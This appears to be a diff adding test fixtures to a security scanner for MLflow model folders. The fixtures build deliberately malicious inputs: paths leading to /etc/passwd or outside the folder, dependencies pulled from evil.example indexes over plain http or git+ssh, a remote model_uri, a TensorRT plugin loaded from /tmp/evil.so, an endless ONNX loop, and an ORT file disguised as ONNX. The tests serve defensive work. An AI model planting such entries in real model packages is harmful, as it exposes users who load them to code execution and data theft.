@@ -381,6 +381,181 @@ def mlmodel_that_trusts_eval(canary):
     return {"MLmodel": mlmodel(sklearn=flavor), "model.skops": evil_skops(canary)}
 
 
+def skops_folder(sklearn=(), python_function=(), **flavors) -> Files:
+    """Return a sound folder of MLflow 3, with what its flavors say besides."""
+    sklearn = {"pickled_model": "model.skops", "serialization_format": "skops"} | dict(sklearn)
+    loaded = {"loader_module": "mlflow.sklearn", "model_path": "model.skops"}
+    python_function = loaded | dict(python_function)
+    return {
+        "MLmodel": mlmodel(python_function=python_function, sklearn=sklearn, **flavors),
+        "model.skops": harmless_skops(),
+    }
+
+
+def outside(canary: Path) -> str:
+    """Write a pickle outside of the version and return its path."""
+    second = canary.with_name(f"{canary.name}.second")
+    second.write_bytes(pickled(canary))
+    return str(second)
+
+
+PYFUNC = (
+    "pickle.loads((folder / yaml.safe_load((folder / 'MLmodel').read_text())"
+    "['flavors']['python_function']['{0}']).read_bytes())"
+)
+
+
+@kind("model_outside", "python_function.data leads out", PYFUNC.format("data"))
+def mlmodel_whose_data_lie_elsewhere(canary):
+    return skops_folder(python_function={"data": outside(canary)})
+
+
+@kind("model_outside", "python_function.model_path leads out", PYFUNC.format("model_path"))
+def mlmodel_whose_model_lies_elsewhere(canary):
+    return skops_folder({"serialization_format": "pickle"}, {"model_path": outside(canary)})
+
+
+@kind("model_outside", "python_function.model_path leads out", PYFUNC.format("model_path"))
+def mlmodel_whose_model_lies_above(canary):
+    name = Path(outside(canary)).name
+    return skops_folder(python_function={"model_path": f"../../{name}"})
+
+
+@kind("model_outside", "sklearn.pickled_model leads out")
+def mlmodel_whose_model_lies_above_in_percents(canary):
+    return skops_folder({"pickled_model": "%2e%2e/model.skops"})
+
+
+@kind("model_outside", "saved_input_example_info.artifact_path leads out")
+def mlmodel_whose_example_lies_elsewhere(canary):
+    import yaml
+
+    files = skops_folder()
+    example = {"saved_input_example_info": {"artifact_path": "/etc/passwd", "type": "json_object"}}
+    return files | {"MLmodel": files["MLmodel"] + yaml.safe_dump(example).encode()}
+
+
+@kind("model_outside", "python_function.env.virtualenv leads out")
+def mlmodel_whose_environment_lies_elsewhere(canary):
+    return skops_folder(python_function={"env": {"virtualenv": "/tmp/python_env.yaml"}})
+
+
+@kind("mlmodel_key", "python_function.env.virtualenv is none of")
+def mlmodel_whose_environment_has_another_name(canary):
+    files = skops_folder(python_function={"env": {"virtualenv": "words.yaml"}})
+    return files | {"words.yaml": b"dependencies: ['evil @ http://evil.example/evil.tar.gz']"}
+
+
+@kind("several_models", "a version is one model")
+def two_models_of_which_each_reader_takes_another(canary):
+    files = skops_folder(python_function={"model_path": "other.skops"})
+    return files | {"other.skops": harmless_skops()}
+
+
+@kind("several_models", "a version is one model")
+def second_model_that_nobody_names(canary):
+    return skops_folder() | {"other.skops": harmless_skops()}
+
+
+@kind("several_models", "the flavors name different files")
+def flavors_that_name_different_files(canary):
+    return skops_folder(python_function={"data": "words.txt"}) | {"words.txt": b"words"}
+
+
+@kind("serialization_mismatch", "sklearn opens model.skops as pickle")
+def skops_that_is_to_be_unpickled(canary):
+    return skops_folder({"serialization_format": "pickle"})
+
+
+@kind("serialization_mismatch", "sklearn opens model.skops as pickle")
+def skops_of_a_format_that_is_not_said(canary):
+    return skops_folder({"serialization_format": None})
+
+
+@kind("serialization_mismatch", "onnx opens model.skops")
+def skops_that_is_to_be_read_as_onnx(canary):
+    return skops_folder(onnx={"data": "model.skops"})
+
+
+@kind("mlmodel_flavor", "mlflow.sklearn reads the flavor sklearn, not here")
+def mlmodel_without_the_flavor_that_is_read(canary):
+    function = {"loader_module": "mlflow.sklearn", "model_path": "model.skops"}
+    return {"MLmodel": mlmodel(python_function=function), "model.skops": harmless_skops()}
+
+
+@kind("mlmodel_flavor", "the flavor transformers")
+def mlmodel_that_fetches_from_a_hub(canary):
+    return skops_folder(transformers={"source_model_name": "evil/repo", "task": "text-generation"})
+
+
+@kind("mlmodel_key", "nothing is known of python_function.model_uri")
+def mlmodel_with_an_address_of_its_own(canary):
+    return skops_folder(python_function={"model_uri": "https://evil.example/model"})
+
+
+@kind("mlmodel_key", "onnx.onnx_session_options may not be")
+def mlmodel_that_chooses_how_onnx_is_read(canary):
+    options = {"extra_session_config": {"session.load_model_format": "ORT"}}
+    return skops_folder(onnx={"data": "model.skops", "onnx_session_options": options})
+
+
+@kind("mlmodel_key", "onnx.providers may not be")
+def mlmodel_whose_provider_loads_a_library(canary):
+    provider = ["TensorrtExecutionProvider", {"trt_extra_plugin_lib_paths": "/tmp/evil.so"}]
+    return skops_folder(onnx={"data": "model.skops", "providers": [provider]})
+
+
+def package_source(name: str, text: str, files: Files) -> None:
+    def make(canary):
+        return skops_folder() | files
+
+    make.__name__ = f"packages_{name}"
+    kind("unsafe_package_source", text)(make)
+
+
+for _name, _text, _line in (
+    (
+        "of_an_index_without_tls",
+        "--index-url http://evil",
+        "--index-url http://evil.example/simple",
+    ),
+    ("of_another_index_too", "--extra-index-url=http", "--extra-index-url=http://evil.example/"),
+    ("of_an_index_by_half_a_word", "--extra-index http", "--extra-index http://evil.example/"),
+    ("of_git_without_tls", "git+http://", "evil @ git+http://evil.example/x.git"),
+    ("of_git_over_ssh", "git+ssh://", "evil @ git+ssh://git@evil.example/x.git"),
+    ("of_an_address_without_tls", "evil @ http://", "evil @ http://evil.example/evil.whl"),
+    ("of_a_host_that_need_not_prove_itself", "--trusted-host", "--trusted-host evil.example"),
+    ("of_a_file", "/tmp/evil", "/tmp/evil-1.0.tar.gz"),
+    ("of_a_file_beside", "evil.zip", "evil.zip"),
+    ("of_a_folder", "-e .", "-e ."),
+    ("of_another_list", "-r /tmp/evil.txt", "-r /tmp/evil.txt"),
+    ("of_settings_for_a_build", "--config-settings", "evil --config-settings x=y"),
+    ("of_a_line_that_goes_on", "--index-url http", "--index-url \\\n  http://evil.example/simple"),
+    ("of_a_comment_that_goes_on", "a comment that goes on", "# \\\n-i http://evil.example/"),
+    ("in_an_encoding_of_their_own", "an encoding", "# coding: utf-7\nx==1+AAo-evil"),
+):
+    package_source(_name, _text, {"requirements.txt": f"scikit-learn\n{_line}\n".encode()})
+package_source(
+    "of_python_env", "evil @ http://",
+    {"python_env.yaml": b"build_dependencies: ['evil @ http://evil.example/x.tar.gz']\n"},
+)  # fmt: skip
+package_source(
+    "of_conda",
+    "evil @ git+http",
+    {"conda.yaml": b"dependencies: [{pip: ['evil @ git+http://e/x']}]"},
+)
+package_source(
+    "of_a_channel", "http://evil", {"conda.yaml": b"channels: ['http://evil.example/c']"}
+)
+package_source(
+    "of_a_variable", "variables", {"conda.yaml": b"variables: {PIP_INDEX_URL: 'http://evil'}"}
+)
+package_source(
+    "of_a_lock", "http://evil.example",
+    {"uv.lock": b'[[package]]\nname = "x"\nsource = { registry = "http://evil.example/simple" }'},
+)  # fmt: skip
+
+
 @kind(
     "yaml_tag",
     "python/object/apply:os.system",
@@ -502,6 +677,89 @@ def onnx_with_external_data(canary):
     output = helper.make_tensor_value_info("w", TensorProto.FLOAT, [1])
     graph = helper.make_graph([], "g", [], [output], [tensor])
     return {"model.onnx": helper.make_model(graph).SerializeToString()}
+
+
+def onnx_bytes(nodes, *tensors) -> bytes:
+    """Return a graph of rows of two numbers, under X, to rows of any, under y."""
+    from onnx import TensorProto, helper
+
+    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])
+    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])
+    graph = helper.make_graph(nodes, "g", [x], [y], tensors)
+    opsets = [helper.make_opsetid("", 17)]
+    return helper.make_model(graph, opset_imports=opsets, ir_version=8).SerializeToString()
+
+
+def arithmetic(operator: str, number: float) -> bytes:
+    from onnx import TensorProto, helper
+
+    node = helper.make_node(operator, ["X", "c"], ["y"])
+    return onnx_bytes([node], helper.make_tensor("c", TensorProto.FLOAT, [1], [number]))
+
+
+def endless_onnx() -> bytes:
+    """Return a graph that goes round 2^62 times."""
+    from onnx import TensorProto, helper
+
+    def value(name, kind, shape):
+        return helper.make_tensor_value_info(name, kind, shape)
+
+    number, truth, rows = TensorProto.INT64, TensorProto.BOOL, TensorProto.FLOAT
+    body = helper.make_graph(
+        [helper.make_node("Identity", ["c"], ["d"]), helper.make_node("Identity", ["v"], ["w"])],
+        "body", [value("i", number, []), value("c", truth, []), value("v", rows, [None, 2])],
+        [value("d", truth, []), value("w", rows, [None, 2])],
+    )  # fmt: skip
+    loop = helper.make_node("Loop", ["n", "t", "X"], ["y"], body=body)
+    rounds = helper.make_tensor("n", number, [], [2**62])
+    return onnx_bytes([loop], rounds, helper.make_tensor("t", truth, [], [True]))
+
+
+def ort_bytes(onnx: bytes) -> bytes:
+    """Return a graph in onnxruntime's own format."""
+    import tempfile
+
+    import onnxruntime
+
+    options = onnxruntime.SessionOptions()
+    options.add_session_config_entry("session.save_model_format", "ORT")
+    options.graph_optimization_level = onnxruntime.GraphOptimizationLevel.ORT_DISABLE_ALL
+    with tempfile.TemporaryDirectory() as folder:
+        options.optimized_model_filepath = f"{folder}/model.ort"
+        onnxruntime.InferenceSession(onnx, options, providers=["CPUExecutionProvider"])
+        return Path(options.optimized_model_filepath).read_bytes()
+
+
+@kind("unknown_format", "a model of onnxruntime's own (ORT)")
+def ort_model(canary):
+    return {"model.onnx": ort_bytes(arithmetic("Mul", 100.0))}
+
+
+def varint(number: int, n_bytes: int) -> bytes:
+    groups = [number >> 7 * place & 0x7F for place in range(n_bytes)]
+    return bytes([group | 0x80 for group in groups[:-1]] + groups[-1:])
+
+
+@kind("unknown_format", "a model of onnxruntime's own (ORT)")
+def ort_model_that_reads_as_onnx(canary):
+    """Its root table is moved to where an ONNX file has a long property, before another graph."""
+    ort = ort_bytes(arithmetic("Mul", 100.0))
+    head = bytes([0x08, 0x08, 0x11, 0x00]) + b"ORTM" + bytes(3)
+    (old,), (new,) = struct.unpack_from("<I", ort), struct.unpack_from("<I", head)
+    table = old - struct.unpack_from("<i", ort, old)[0]
+    n_table, n_root = struct.unpack_from("<HH", ort, table)
+    begin = (new + n_root + 256) // 16 * 16
+    made = bytearray(begin + len(ort))
+    made[: len(head)] = head
+    made[len(head) : len(head) + 4] = b"\x7a" + varint(len(made) - len(head) - 4, 3)
+    made[new - 64 : new - 64 + n_table] = ort[table : table + n_table]
+    made[new : new + n_root] = struct.pack("<i", 64) + ort[old + 4 : old + n_root]
+    for place in struct.unpack_from(f"<{(n_table - 4) // 2}H", ort, table + 4):
+        if place:
+            (far,) = struct.unpack_from("<I", ort, old + place)
+            struct.pack_into("<I", made, new + place, old + far + begin - new)
+    made[begin:] = ort
+    return {"model.onnx": bytes(made) + arithmetic("Add", 1.0)}
 
 
 @kind("unknown_format", "the tensors overlap or leave gaps")
